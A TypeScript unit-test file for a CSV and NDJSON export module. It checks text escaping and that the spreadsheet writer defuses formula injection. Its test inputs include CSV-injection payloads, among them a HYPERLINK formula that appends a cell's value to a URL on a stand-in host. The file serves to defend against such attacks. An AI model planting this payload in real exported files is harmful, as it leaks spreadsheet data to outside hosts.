import { expect, it } from 'vitest'
import { writeCsv, writeSpreadsheet } from '../../../src/answers/export/formats/csv.ts'
import type { FlatValues } from '../../../src/answers/export/formats/flat-batch.ts'
import { writeNdjson } from '../../../src/answers/export/formats/ndjson.ts'
import { textsOf } from '../../../src/answers/export/formats/typed.ts'
import { Constant } from '../../../src/base/values/vector.ts'
import type { FlatColumn } from '../../../src/catalog/records/flat-columns.ts'

const column: FlatColumn = { name: 'it', type: 'text', doc: 'A text.', from: { as: 'column', of: 'it' } }

async function written(write: typeof writeCsv, ...batches: readonly FlatValues[]): Promise<string> {
  async function* all() {
    for (const values of batches) yield { rows: 1, columns: [values] }
  }
  let text = ''
  for await (const bytes of write([column], all(), { integersAsText: false })) text += Buffer.from(bytes)
  return text
}

/** A text, and how it stands in a cell of CSV; each is a batch of its own, so that no other one has it escaped. */
it.each([
  ['plain', 'plain'],
  ['', '""'],
  ['"', '""""'],
  ['a,b', '"a,b"'],
  ['\n', '"\n"'],
  ['\r', '"\r"'],
  ['\\', '\\'],
  ['\t', '\t'],
  ['\u0000', '\u0000'],
  ['\u001f', '\u001f'],
  ['\u007f\u0085', '\u007f\u0085'],
  ['ünï © €😀', 'ünï © €😀'],
])('%j is read back unchanged from NDJSON and CSV', async (text, cell) => {
  for (const values of [textsOf([text]), new Constant(text), [text]]) {
    expect(JSON.parse(await written(writeNdjson, values))).toEqual({ it: text })
    expect(await written(writeCsv, values)).toBe(`it\n${cell}\n`)
  }
})

it('a null is null in NDJSON and an empty cell in CSV', async () => {
  for (const values of [textsOf([null] as never), new Constant(null), [null]]) {
    expect(await written(writeNdjson, values)).toBe('{"it":null}\n')
    expect(await written(writeCsv, values)).toBe('it\n\n')
  }
})

/** A text, and its cell for spreadsheets; other formats have it as it is. */
it.each([
  ['=1+1', "'=1+1"],
  ['+1-555', "'+1-555"],
  ['-ab_c', "'-ab_c"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['\r=1', `"'\r'=1"`],
  ['bee;=1+1', "bee;'=1+1"],
  ['bee\t@SUM(A1)', "bee\t'@SUM(A1)"],
  ['"bee\n-1+1', `"""bee\n'-1+1"`],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['bee;＠SUM(A1)', "bee;'＠SUM(A1)"],
  ['=HYPERLINK("http://a.example/"&A1,"x")', `"'=HYPERLINK(""http://a.example/""&A1,""x"")"`],
  ['-5', '-5'],
  ['+0.25', '+0.25'],
  ['a-b=c', 'a-b=c'],
  ['', '""'],
])('a spreadsheet does not read %j as a formula', async (text, cell) => {
  for (const values of [textsOf([text]), new Constant(text), [text]])
    expect(await written(writeSpreadsheet, values)).toBe(`it\n${cell}\n`)
  expect(await written(writeCsv, textsOf([text]))).not.toContain("'")
})
